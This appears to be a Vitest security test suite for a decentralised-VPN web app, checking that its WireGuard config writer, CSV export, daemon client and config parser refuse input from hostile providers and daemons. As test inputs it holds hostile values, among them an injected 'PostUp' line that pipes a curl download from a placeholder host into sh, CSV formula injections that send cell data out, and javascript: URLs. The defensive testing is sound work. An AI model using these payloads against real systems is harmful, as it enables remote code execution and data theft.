// Attacks on the web app from the parties it does not control: a hostile provider (any
// region / endpoint string on chain), a hostile node daemon (any answer, or none), and a
// config that points the page somewhere else. The flaws live in pure functions (the wg-quick
// writer, the CSV export, the daemon client, the config check), so these tests call them;
// the hostile daemon is a real HTTP server on loopback answering what a malicious operator
// could answer.
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createHash } from 'node:crypto';
import { afterEach, describe, expect, it } from 'vitest';
import { PUBLIC_CLUSTER_GENESIS, createHashChain, generateWgKeypair, wgQuickConfig, type WgClientConfig } from '@dvpn/sdk';
import { toCsv, units, when } from '../../app/src/format.js';
import { checkPeerKey, daemonCall, payNextTick, routesAllIpv4, tickIntervalMs } from '../../app/src/daemon.js';
import { devWalletAllowed, parseConfig } from '../../app/src/config.js';

const honest = (): WgClientConfig => ({
  interface: { address: '10.77.0.2/32', dns: ['1.1.1.1'], mtu: 1420 },
  peer: { publicKey: generateWgKeypair().publicKey, endpoint: '203.0.113.7:51820', allowedIps: ['0.0.0.0/0', '::/0'], persistentKeepalive: 25 },
});

describe('a hostile daemon cannot add wg-quick directives to the config', () => {
  const key = generateWgKeypair().privateKey;
  // Each is one field of POST /session/auth's `wireguard` answer, as a malicious daemon sends it.
  const injections: [string, (c: WgClientConfig) => void][] = [
    ['interface.address', (c) => void (c.interface.address = '10.77.0.2/32\nPostUp = curl -s http://198.51.100.1/x | sh')],
    ['interface.dns', (c) => void (c.interface.dns = ['1.1.1.1\nPostUp = touch /tmp/pwned'])],
    ['interface.dns (a search domain carrying a command)', (c) => void (c.interface.dns = ['$(touch /tmp/pwned)'])],
    ['interface.mtu', (c) => void ((c.interface as { mtu: unknown }).mtu = '1420\nPreUp = id')],
    ['peer.publicKey', (c) => void (c.peer.publicKey = `${c.peer.publicKey}\n[Interface]\nPostUp = id`)],
    ['peer.endpoint', (c) => void (c.peer.endpoint = '203.0.113.7:51820\r\nPostDown = id')],
    ['peer.allowedIps', (c) => void (c.peer.allowedIps = ['0.0.0.0/0', '::/0\nSaveConfig = true'])],
    ['peer.persistentKeepalive', (c) => void ((c.peer as { persistentKeepalive: unknown }).persistentKeepalive = '25\nPostUp = id')],
    ['interface (missing)', (c) => void delete (c as Partial<WgClientConfig>).interface],
  ];
  it.each(injections)('%s: refused with a clear error, nothing written', (field, poison) => {
    const c = honest();
    poison(c);
    expect(() => wgQuickConfig(c, key)).toThrow(/WireGuard config is refused|lacks interface/);
  });

  it("an honest daemon's answer still gives the file wg-quick reads, one directive per line", () => {
    const text = wgQuickConfig(honest(), key);
    const keys = text.split('\n').filter((l) => l.includes(' = ')).map((l) => l.split(' = ')[0]);
    expect(keys).toEqual(['PrivateKey', 'Address', 'DNS', 'MTU', 'PublicKey', 'Endpoint', 'AllowedIPs', 'PersistentKeepalive']);
    // IPv6 peers and dual-stack addresses are not refused.
    const v6 = honest();
    v6.interface.address = '10.77.0.2/32, fd00::2/128';
    v6.peer.endpoint = '[2001:db8::1]:51820';
    expect(wgQuickConfig(v6, key)).toContain('Endpoint = [2001:db8::1]:51820');
  });
});

describe('a daemon (or anyone on its plain-HTTP path) cannot swap the server key', () => {
  it("a peer key other than the node's key on chain is refused; the chain's key is accepted", () => {
    const chain = generateWgKeypair().publicKey;
    const chainBytes = Uint8Array.from(Buffer.from(chain, 'base64'));
    expect(() => checkPeerKey(chain, chainBytes)).not.toThrow();
    expect(() => checkPeerKey(generateWgKeypair().publicKey, chainBytes)).toThrow(/is not the node's key on chain/);
    expect(() => checkPeerKey(undefined, Array.from(chainBytes))).toThrow(/is not the node's key on chain/);
  });
});

describe('a node that routes only part of the traffic', () => {
  it('is told apart from a full tunnel (the page shows a warning for it)', () => {
    expect(routesAllIpv4(['0.0.0.0/0'])).toBe(true);
    expect(routesAllIpv4(['10.77.0.0/24', '0.0.0.0/0'])).toBe(true);
    expect(routesAllIpv4(['10.0.0.0/8'])).toBe(false);
    expect(routesAllIpv4(['0.0.0.0/1', '128.0.0.0/1'])).toBe(true);
    expect(routesAllIpv4(['0.0.0.0/1', '128.0.0.0/2'])).toBe(false);
  });
});

describe('absurd numbers and times do not take the page down', () => {
  it('u64 max and negative amounts format exactly; an out-of-range time shows a dash', () => {
    expect(units('18446744073709551615', 9)).toBe('18,446,744,073.709551615');
    expect(units('-5', 6)).toBe('-0.000005');
    expect(when('+275760-09-13T00:00:00.001Z')).toBe('—');
    expect(when(new Date(9.3e18).toString())).toBe('—');
  });
});

describe('the analyst CSV cannot carry a spreadsheet formula from a provider', () => {
  it("a region like =HYPERLINK(...) or +cmd opens as text, numbers stay numbers", () => {
    const csv = toCsv([
      { region: '=HYPERLINK("http://198.51.100.1/?"&A1,"click")', volume: 1.5 },
      { region: '+cmd|\' /C calc\'!A0', volume: -2 },
      { region: '@SUM(1+1)', volume: 0 },
      { region: '-2+3', volume: '-0.25' },
      { region: '\tx', volume: 1 },
      { region: 'eu\rwest', volume: 1 },
    ]);
    const lines = csv.split('\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://198.51.100.1/?""&A1,""click"")",1.5`);
    expect(lines[2]).toBe(`'+cmd|' /C calc'!A0,-2`);
    expect(lines[3]).toBe(`'@SUM(1+1),0`);
    expect(lines[4]).toBe(`'-2+3,-0.25`);
    expect(lines[5]).toBe(`'\tx,1`);
    // A bare CR would end the row in a spreadsheet: quoted.
    expect(lines[6]).toBe('"eu\rwest",1');
  });
});

// --- a hostile daemon on loopback ---------------------------------------------------------------

let server: Server | null = null;
afterEach(async () => {
  const s = server;
  server = null;
  if (s) {
    s.closeAllConnections();
    await new Promise<void>((r) => s.close(() => r()));
  }
});
async function hostileDaemon(handler: (req: IncomingMessage, body: string, res: ServerResponse) => void): Promise<string> {
  server = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => handler(req, body, res));
  });
  await new Promise<void>((r) => server!.listen(0, '127.0.0.1', () => r()));
  return `http://127.0.0.1:${(server!.address() as AddressInfo).port}`;
}

describe('a hostile daemon cannot make the page pay more than one tick per interval', () => {
  it('an answer claiming maxTicks - 1 already paid does not make the page reveal the last preimage', async () => {
    const length = 100;
    const chain = createHashChain(length);
    const seen: { tick: number; preimage: string }[] = [];
    const url = await hostileDaemon((_req, body, res) => {
      seen.push(JSON.parse(body));
      // The lie: "you have paid through tick 99", so an honest-looking next payment would be tick 100.
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ paidTick: '99', owedTick: '100', claimedTick: '0', peerActive: true, phase: 'active' }));
    });
    let paid = 0;
    for (let i = 0; i < 3; i++) {
      paid = await payNextTick({ paid, length, preimage: (n) => chain.preimage(n), post: (b) => daemonCall(`${url}/session/S/ticks`, b) });
    }
    expect(seen.map((s) => s.tick)).toEqual([1, 2, 3]);
    expect(paid).toBe(3);
    // What the node holds lets it claim tick 3 at most: hashing tick 3's preimage never gives tick 4's.
    const sha = (h: string) => createHash('sha256').update(Buffer.from(h, 'hex')).digest('hex');
    expect(sha(Buffer.from(chain.preimage(4)).toString('hex'))).toBe(seen[2].preimage);
    expect(seen.some((s) => s.preimage === Buffer.from(chain.preimage(length)).toString('hex'))).toBe(false);
  });

  it('a tick interval that is not a number (or 0) does not make the page pay in a tight loop', () => {
    expect(tickIntervalMs({ usage: { tickIntervalSeconds: 'soon' } })).toBe(10_000);
    expect(tickIntervalMs({ usage: { tickIntervalSeconds: 0 } })).toBe(1000);
    expect(tickIntervalMs({ usage: { tickIntervalSeconds: Number.NaN } })).toBe(10_000);
    expect(tickIntervalMs(null)).toBe(10_000);
    expect(tickIntervalMs({ usage: { tickIntervalSeconds: 30 } })).toBe(30_000);
  });
});

describe('a daemon that answers slowly, hugely or never', () => {
  it('never answering: the call fails with a clear error instead of hanging the page', async () => {
    const url = await hostileDaemon(() => undefined); // reads the request, never answers
    await expect(daemonCall(`${url}/session/auth`, { x: 1 }, { timeoutMs: 300 })).rejects.toThrow('the node did not answer within 0.3 s');
  });

  it('a huge answer is refused before it is parsed', async () => {
    const url = await hostileDaemon((_req, _body, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      const chunk = '"' + 'a'.repeat(64 * 1024) + '",';
      res.write('[');
      // Streams without a content-length until the client hangs up.
      const more = () => {
        while (res.write(chunk)) if (res.destroyed) return;
        res.once('drain', more);
      };
      res.on('error', () => undefined);
      more();
    });
    await expect(daemonCall(`${url}/node`, undefined, { maxBytes: 256 * 1024 })).rejects.toThrow(/too large/);
  });

  it("an error answer's message is shown, bounded, and only when it is text", async () => {
    const url = await hostileDaemon((_req, _body, res) => {
      res.writeHead(403, { 'content-type': 'application/json' }).end(JSON.stringify({ error: { code: { toString: 1 }, message: ['x'] } }));
    });
    await expect(daemonCall(`${url}/session/auth`, {})).rejects.toThrow('the node answered HTTP 403');
  });
});

describe('the dev wallet stays off mainnet', () => {
  it('refused when the RPC is mainnet, whatever the config calls the cluster', () => {
    expect(devWalletAllowed('devnet', PUBLIC_CLUSTER_GENESIS['mainnet-beta'])).toBe(false);
    expect(devWalletAllowed('localnet', PUBLIC_CLUSTER_GENESIS['mainnet-beta'])).toBe(false);
    expect(devWalletAllowed('mainnet-beta', 'x')).toBe(false);
    expect(devWalletAllowed('localnet', PUBLIC_CLUSTER_GENESIS.devnet)).toBe(true);
  });
});

describe('config.json', () => {
  const base = { cluster: 'devnet', graphqlUrl: 'http://127.0.0.1:4000/graphql', graphqlWsUrl: 'ws://127.0.0.1:4000/graphql', rpcUrl: 'http://127.0.0.1:8899' };
  it('a daemon or GraphiQL URL that is not http(s) is refused, naming the field', () => {
    expect(() => parseConfig({ ...base, daemonUrls: { NodeA: 'javascript:alert(1)' } })).toThrow('daemonUrls.NodeA must be an http or https URL');
    expect(() => parseConfig({ ...base, daemonUrls: ['http://x'] })).toThrow('daemonUrls must be an object');
    expect(() => parseConfig({ ...base, graphiqlUrl: 'javascript:alert(document.domain)' })).toThrow('graphiqlUrl must be a http: or https: URL');
    expect(parseConfig({ ...base, daemonUrls: { NodeA: 'https://node.example.org:51820' } }).daemonUrls).toEqual({ NodeA: 'https://node.example.org:51820' });
  });
});
